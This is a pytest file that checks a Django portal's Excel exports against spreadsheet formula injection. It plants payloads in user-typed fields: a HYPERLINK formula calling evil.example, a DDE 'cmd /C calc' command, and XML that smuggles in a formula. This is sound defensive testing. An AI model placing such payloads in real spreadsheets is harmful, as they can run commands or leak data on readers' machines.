"""No text a user typed becomes a formula in any .xlsx the portal writes.

Every user-typed text field the exports show is set to text Excel would
evaluate (`=HYPERLINK(…)`, `=1+1`, `+1`, `-1+2`, `@SUM(A1)`, a tab or CR then
`=`, an error code); then every export is downloaded as a district official
and read back: no cell is a formula, and the text reads back exactly as typed.

The exports are found, not listed: every URL whose route ends in `.xlsx`, and
every background exporter in core.exports.EXPORTERS. A new export that is not
given its parameters below fails the test until it is.
"""

import io
import re
from pathlib import Path

import pytest
from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils.module_loading import import_string
from openpyxl import load_workbook

from complaints import services as complaint_services
from complaints.models import Category, Channel
from core.exports import EXPORTERS
from core.models import ExportJob
from core.xlsx import COUNT, TEXT, Column, Formula, new_workbook
from propertymgmt.models import SubsidyPeriod
from tests.test_workbook import YEAR, figures  # noqa: F401  (a fixture: something for every sheet)

pytestmark = pytest.mark.django_db

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?{tag}","点我")',
    "=1+1 {tag}",
    "+1 {tag}",
    "-1+2 {tag}",
    "@SUM(A1) {tag}",
    "\t=1+1 {tag}",
    "\r=1+1 {tag}",
    "=cmd|' /C calc'!A0 {tag}",
    # xlsxwriter copies a string that looks like rich-text XML into the file raw
    "<r><t>{tag}</t></r>",
    '<r><t>a</t></r></is></c><c r="A1"><f>1+1</f></c><c r="B1" t="inlineStr"><is><r><t>{tag}</t></r>',
)
SHORT = "=1+1 {tag}"

# (app_label.Model, fields): the text users type that some export shows.
HOSTILE_FIELDS = (
    ("org.District", ("name",)),
    ("org.StreetOffice", ("name",)),
    ("org.Community", ("name",)),
    ("communities.Estate", ("name", "address", "remarks")),
    ("communities.Building", ("number",)),
    ("complaints.Complaint", ("reporter_name", "description", "address", "building_unit")),
    ("renovation.Project", ("name", "summary")),
    ("renovation.CatalogueItem", ("name",)),
    ("propertymgmt.PropertyCompany", ("name", "address")),
)

# A deliberate formula is written with core.xlsx.Formula; none exists today.
# Should one be added, it is a total over a range, never text.
PORTAL_FORMULA = re.compile(r"^=(SUM|SUBTOTAL)\((\d+,)?[A-Z]{1,3}\d+:[A-Z]{1,3}\d+\)$")

# Exports whose content is fixed (no user text to find in them).
WITHOUT_USER_TEXT = {"communities:household_template"}


@pytest.fixture(autouse=True)
def fresh_cache(settings, tmp_path):
    from django.core.cache import cache

    settings.MEDIA_ROOT = tmp_path
    cache.clear()


@pytest.fixture
def hostile(world, figures):  # noqa: F811
    """Every field in HOSTILE_FIELDS, of every row, set to a payload (distinct
    per row, so unique names stay unique); returns the payloads written."""
    from django.apps import apps

    complaint_services.file_complaint(
        filing=complaint_services.Filing(
            category=Category.objects.get(code="common_area"),
            description="楼道被杂物堵塞",
            reporter_name="李秀英",
            reporter_phone="13812345678",
            estate=world.estate_a1,
            channel=Channel.WEB,
            consent=True,
            building_unit="1单元",
        )
    )
    written = set()
    number = 0
    for label, fields in HOSTILE_FIELDS:
        model = apps.get_model(label)
        for pk in model.objects.order_by("pk").values_list("pk", flat=True):
            values = {}
            for name in fields:
                field = model._meta.get_field(name)
                template = PAYLOADS[number % len(PAYLOADS)]
                number += 1
                value = template.format(tag=f"{model.__name__[:3]}{pk}{name[:2]}")
                if isinstance(field, models.CharField) and len(value) > field.max_length:
                    value = SHORT.format(tag=f"{pk}")
                values[name] = value
                written.add(value)
            model.objects.filter(pk=pk).update(**values)
    return written


def xlsx_urls():
    """The names of every URL whose route ends in .xlsx."""
    names = set()

    def walk(patterns, namespace):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, pattern.namespace or namespace)
            elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(".xlsx") and pattern.name:
                names.add(f"{namespace}:{pattern.name}" if namespace else pattern.name)

    walk(get_resolver().url_patterns, None)
    return names


def released_batch(world, period):
    """A released disbursement batch of the district's approved payments, each line
    naming its estate's (possibly hostile) name as the payee's."""
    from django.utils import timezone

    from propertymgmt.models import BatchLine, DisbursementBatch, Payee, SubsidyPayment

    batch = DisbursementBatch.objects.filter(period=period).first()
    if batch is not None:
        return batch
    payee = Payee.objects.create(
        district=world.district,
        street=world.street_a,
        body="street_centre",
        account_name="和平里街道物业服务中心",
        bank="中国工商银行",
        account_number="0200001234567890",
    )
    batch = DisbursementBatch.objects.create(
        district=world.district, period=period, status="released", released_at=timezone.now()
    )
    for payment in SubsidyPayment.objects.filter(street__district=world.district, status="approved", amount__gt=0):
        BatchLine.objects.create(
            batch=batch,
            payment=payment,
            street=payment.street,
            payee=payee,
            account_name=payment.estate.name,
            bank=payee.bank,
            account_number=payee.account_number,
            amount=payment.amount,
        )
    return batch


def fund_accounts(world):
    """An account of street A's estate, so the fund report has a street (a hostile name) to show."""
    from datetime import date
    from decimal import Decimal

    from propertymgmt.models import FundAccount, FundTransaction

    account, created = FundAccount.objects.get_or_create(
        estate=world.estate_a1, building=None, defaults={"holder": "centre", "opened_on": date(YEAR, 1, 1)}
    )
    if created:
        FundTransaction.objects.create(
            account=account, kind="initial", amount=Decimal("1000.00"), booked_on=date(YEAR, 1, 1)
        )
    return {"year": YEAR}


def url_exports(world):
    """URL name → (reverse kwargs, query) of every download; the workbook page
    answers its GET with the .xlsx."""
    period = SubsidyPeriod.objects.get(district=world.district)
    return {
        "propertymgmt:batch_instruction": ({"pk": released_batch(world, period).pk}, {}),
        "communities:estate_export": ({}, {}),
        "communities:import_template": ({}, {}),
        "communities:household_template": ({"estate_pk": world.estate_a1.pk}, {}),
        "complaints:case_export": ({}, {}),
        "complaints:measures_export": ({}, {"year": YEAR}),
        "renovation:street_report_export": ({}, {"year": YEAR}),
        "renovation:project_report_export": ({}, {"year": YEAR}),
        "propertymgmt:subsidy_export": ({"period_pk": period.pk}, {}),
        "propertymgmt:subsidy_reconciliation_export": ({"period_pk": period.pk}, {}),
        "propertymgmt:fund_report_export": ({}, fund_accounts(world)),
        "dashboard:workbook": ({}, {"year": YEAR}),
    }


def job_params(world):
    period = SubsidyPeriod.objects.get(district=world.district)
    return {
        "ledger": {"query": ""},
        "complaints": {"query": ""},
        "subsidy-payments": {"period": period.pk, "filename": "补贴.xlsx"},
        "renovation-projects": {"year": YEAR},
        "workbook": {"year": YEAR, "quarter": "", "month": ""},
    }


def cells_of(content: bytes):
    book = load_workbook(io.BytesIO(content), data_only=False)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell


def assert_no_formula_from_user_text(name, content, hostile):
    texts = []
    for sheet, cell in cells_of(content):
        where = f"{name} {sheet}!{cell.coordinate}"
        if cell.data_type == "f":
            assert PORTAL_FORMULA.match(str(cell.value)), f"{where} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            assert cell.data_type in ("s", "inlineStr"), f"{where} is not text: {cell.data_type}"
            assert not cell.value.startswith("'="), f"{where} was mangled: {cell.value!r}"
            texts.append(cell.value)
    if name not in WITHOUT_USER_TEXT:
        assert any(payload in text for text in texts for payload in hostile), f"{name} shows no user text"
    return texts


def test_the_test_finds_every_download(world, figures):  # noqa: F811
    """A new .xlsx URL or background exporter must be given its parameters here."""
    assert xlsx_urls() | {"dashboard:workbook"} == set(url_exports(world))
    assert set(job_params(world)) == set(EXPORTERS)


def test_no_export_writes_user_text_as_a_formula(world, hostile, client_for):
    client = client_for(world.official)
    seen = []
    for name, (kwargs, query) in url_exports(world).items():
        response = client.get(reverse(name, kwargs=kwargs), query)
        assert response.status_code == 200, (name, response.status_code)
        content = b"".join(response.streaming_content) if response.streaming else response.content
        seen += assert_no_formula_from_user_text(name, content, hostile)
    # The estates' names, addresses and remarks read back exactly as typed.
    from communities.models import Estate

    for typed in Estate.objects.filter(community__street__district=world.district).values_list(
        "name", "address", "remarks"
    ):
        assert set(typed) <= set(seen), typed


def test_no_background_export_writes_user_text_as_a_formula(world, hostile):
    params = job_params(world)
    for kind, path in EXPORTERS.items():
        job = ExportJob.objects.create(requested_by=world.official, kind=kind, params=params[kind], total_rows=1)
        handle = io.BytesIO()
        import_string(path)(job, handle, lambda rows: None)
        assert_no_formula_from_user_text(kind, handle.getvalue(), hostile)


def test_text_stays_text_however_it_is_written():
    """In a report table or a plain sheet, as a title, a cell or a 合计: every str
    is text, exactly as typed; only a Formula is a formula."""
    texts = [p.format(tag="x") for p in PAYLOADS] + ["#N/A", "#REF!", "=", "0100", "1e5", "http://evil.example/"]
    handle = io.BytesIO()
    with new_workbook(handle) as book:
        plain = book.sheet("s")
        plain.append(texts)
        plain.append([Formula("=SUM(A1:A2)")])
        table = book.table(
            name="t", title=texts[0], unit_line=texts[1], columns=[Column(f"列{i}", TEXT) for i in range(len(texts))]
        )
        table.append(texts)
        table.write_totals([texts[2], *texts[1:]])
    book = load_workbook(io.BytesIO(handle.getvalue()))
    formulas = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == ["=SUM(A1:A2)"]
    assert [cell.value for cell in book["s"][1]] == texts
    assert [cell.value for cell in book["t"][4]] == texts
    assert [book["t"]["A1"].value, book["t"]["A2"].value, book["t"]["A5"].value] == texts[:3]


def test_text_in_a_figure_column_is_refused_not_guessed():
    """A str where a number belongs is a bug upstream: refused, never parsed or written as a formula."""
    with new_workbook(io.BytesIO()) as book:
        table = book.table(name="t", title="t", unit_line="u", columns=[Column("户数（户）", COUNT)])
        with pytest.raises(TypeError):
            table.append(["=1+1"])
        table.append([1])


def test_every_workbook_stores_strings_as_strings():
    book = new_workbook(io.BytesIO())
    writer = book._book
    assert not writer.strings_to_formulas and not writer.strings_to_urls and not writer.strings_to_numbers
    assert writer.constant_memory
    book.close()


def test_only_core_xlsx_makes_workbooks():
    """Exports start from core.xlsx.new_workbook(): a bare xlsxwriter or openpyxl
    workbook would guess types from text again (openpyxl writes "=…" as a formula;
    xlsxwriter's write() may, and copies "<r>…</r>" raw). openpyxl stays for reading."""
    root = Path(__file__).resolve().parent.parent
    offenders = []
    for path in root.glob("*/**/*.py"):
        parts = path.relative_to(root).parts
        if parts[0] in (".venv", "tests", "bench", "staticfiles", "node_modules") or parts[:2] == ("core", "xlsx"):
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\(|WriteOnlyCell|\bimport xlsxwriter|\bfrom xlsxwriter", text):
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
